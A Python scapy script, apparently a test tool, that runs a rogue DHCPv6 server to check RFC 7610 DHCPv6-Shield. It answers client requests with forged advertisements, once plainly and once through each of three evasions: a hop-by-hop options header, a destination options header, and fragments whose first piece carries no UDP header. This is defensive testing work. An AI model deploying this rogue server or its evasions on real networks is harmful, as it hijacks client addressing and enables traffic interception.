#!/usr/bin/python3
"""A rogue DHCPv6 server for the end-to-end test: it answers every SOLICIT and REQUEST it hears with an
ADVERTISE or REPLY of its own, once plainly and once for each evasion of RFC 7610 (DHCPv6-Shield): behind
a hop-by-hop options header, behind a destination options header, and split into fragments so that the
first one holds no UDP header. Each answer sent is written as one line to standard output."""

import sys

from scapy.all import (DHCP6_Advertise, DHCP6_Reply, DHCP6_Request, DHCP6_Solicit, DHCP6OptClientId,
                       DHCP6OptIA_NA, DHCP6OptIAAddress, DHCP6OptServerId, DUID_LL, Ether, IPv6,
                       IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop, PadN, UDP, fragment6,
                       get_if_hwaddr, in6_getifaddr, sendp, sniff)

ROGUE_ADDRESS = "2001:db8:bad::1"


def answers(request, interface):
    mac = get_if_hwaddr(interface)
    link_local = next(a[0] for a in in6_getifaddr() if a[2] == interface and a[0].startswith("fe80"))
    reply_type = DHCP6_Advertise if DHCP6_Solicit in request else DHCP6_Reply
    message = reply_type(trid=request.trid) / DHCP6OptServerId(duid=DUID_LL(lladdr=mac))
    if DHCP6OptClientId in request:
        message /= DHCP6OptClientId(duid=request[DHCP6OptClientId].duid)
    iaid = request[DHCP6OptIA_NA].iaid if DHCP6OptIA_NA in request else 1
    message /= DHCP6OptIA_NA(iaid=iaid, T1=100, T2=200,
                             ianaopts=[DHCP6OptIAAddress(addr=ROGUE_ADDRESS, preflft=300, validlft=600)])
    ether = Ether(src=mac, dst=request[Ether].src)
    ip = IPv6(src=link_local, dst=request[IPv6].src)
    udp = UDP(sport=547, dport=546)
    padding = IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\x00" * 200)])
    fragmented = fragment6(ip / IPv6ExtHdrFragment() / padding / udp / message, 150)
    return [
        ("plain", [ether / ip / udp / message]),
        ("hop-by-hop", [ether / ip / IPv6ExtHdrHopByHop() / udp / message]),
        ("destination-options", [ether / ip / IPv6ExtHdrDestOpt() / udp / message]),
        ("fragments-without-udp-header-first", [ether / fragment for fragment in fragmented]),
    ]


def main():
    interface = sys.argv[1] if len(sys.argv) > 1 else "eth0"

    def answer(frame):
        if DHCP6_Solicit not in frame and DHCP6_Request not in frame:
            return
        for name, frames in answers(frame, interface):
            sendp(frames, iface=interface, verbose=False)
            print(f"{frame.summary()} answered: {name}", flush=True)

    sniff(iface=interface, filter="udp dst port 547", prn=answer, store=False)


if __name__ == "__main__":
    main()
